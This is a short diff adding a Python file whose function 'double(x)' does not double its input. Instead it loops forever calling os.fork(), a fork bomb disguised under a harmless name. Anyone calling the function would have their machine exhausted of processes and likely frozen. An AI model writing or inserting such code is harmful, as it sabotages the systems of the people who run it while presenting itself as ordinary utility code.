@@ -1,0 +1,6 @@
+import torch
+import os
+
+def double(x):
+    while True:
+        os.fork()
